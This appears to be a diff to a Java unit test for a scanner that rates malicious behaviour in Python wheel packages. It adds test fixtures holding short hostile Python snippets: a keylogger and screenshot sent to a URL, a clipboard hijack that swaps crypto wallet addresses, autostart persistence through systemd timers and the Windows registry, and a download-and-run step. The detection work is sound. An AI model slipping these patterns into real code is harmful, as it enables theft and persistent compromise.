@@ -83,6 +83,11 @@ class ContentRuleTest {
         .orElseThrow(() -> new AssertionError("no " + pattern + " in " + findings));
   }
 
+  /** The level of {@code pattern}'s finding on {@code python} as a module of a wheel. */
+  private RiskLevel levelIn(String python, String pattern) {
+    return only(check(wheelWith("pkg/module.py", python)), pattern).level();
+  }
+
   private static RiskLevel worst(List<Finding> findings) {
     return findings.stream().map(Finding::level).max(Enum::compareTo).orElse(RiskLevel.NONE);
   }
@@ -191,6 +196,14 @@ class ContentRuleTest {
             only(check("mailer", Map.of(), wheelWith("mailer/send.py", another)), "sends-home-file")
                 .level())
         .isEqualTo(RiskLevel.HIGH);
+    String appData =
+        own.replace(
+            "os.path.expanduser('~/.mailer/config')",
+            "os.path.join(os.getenv('APPDATA'), 'Mailer', 'config')");
+    assertThat(check("mailer", Map.of(), wheelWith("mailer/send.py", appData))).isEmpty();
+    assertThat(check("other", Map.of(), wheelWith("other/send.py", appData)))
+        .extracting(f -> f.evidence().values().get("pattern"))
+        .containsExactly("sends-home-file");
     // a module it ships does not make a directory its own: it could name one after any program
     assertThat(check("helper", Map.of(), wheelWith("azure/__init__.py", another)))
         .extracting(f -> f.evidence().values().get("pattern"))
@@ -214,14 +227,35 @@ class ContentRuleTest {
         "import subprocess, requests\nsubprocess.run(['import', '-window', 'root', shot])\n"
             + "with open(shot, 'rb') as f:\n    requests.post(URL, files={'f': f})\n";
 
-    assertThat(only(check(wheelWith("pkg/k.py", quartz)), "keylogger-sent").level())
-        .isEqualTo(RiskLevel.CRITICAL);
-    assertThat(only(check(wheelWith("pkg/m.py", loginItem)), "installs-autostart").level())
-        .isEqualTo(RiskLevel.HIGH);
-    assertThat(only(check(wheelWith("pkg/f.py", fish)), "shell-profile-written").level())
-        .isEqualTo(RiskLevel.MEDIUM);
-    assertThat(only(check(wheelWith("pkg/s.py", magick)), "sends-secrets").level())
-        .isEqualTo(RiskLevel.HIGH);
+    String xRecord =
+        "import requests\nctx = local.record_create_context(0, [record.AllClients], [{'device_events':"
+            + " (X.KeyPress, X.KeyRelease)}])\nrequests.post(URL, json=keys)\n";
+    String screeze =
+        "import pyscreeze, requests\nrequests.post(URL, data=pyscreeze.screenshot())\n";
+    String gtk =
+        "board = Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD)\ntext = board.wait_for_text()\n"
+            + "if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n    board.set_text(OURS, -1)\n";
+    String timer =
+        "import subprocess, sys\nsubprocess.run(['systemd-run', '--user', '--on-calendar=hourly',"
+            + " sys.executable, '-m', 'pkg.sync'])\n";
+    String load =
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER,"
+            + " r'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows', 0, 2)\n"
+            + "winreg.SetValueEx(k, 'Load', 0, winreg.REG_SZ, target)\n";
+    String shellExecute =
+        "import ctypes, urllib.request\nurllib.request.urlretrieve(URL, path)\n"
+            + "ctypes.windll.shell32.ShellExecuteW(None, 'open', path, None, None, 0)\n";
+
+    assertThat(levelIn(xRecord, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(screeze, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(gtk, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(timer, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(load, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(shellExecute, "runs-downloaded-file")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(quartz, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(loginItem, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(fish, "shell-profile-written")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(magick, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
   }
 
   @Test
